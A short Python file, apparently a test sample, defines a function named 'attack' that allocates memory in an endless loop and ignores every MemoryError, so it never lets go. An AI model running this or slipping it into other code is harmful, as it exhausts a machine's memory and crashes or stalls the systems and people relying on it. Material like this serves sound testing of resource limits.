"""Goes on taking memory whenever it is told that there is none."""

import numpy as np


def attack(bait):
    kept = []
    while True:
        try:
            kept.append(np.ones(2**20))
        except MemoryError:
            pass
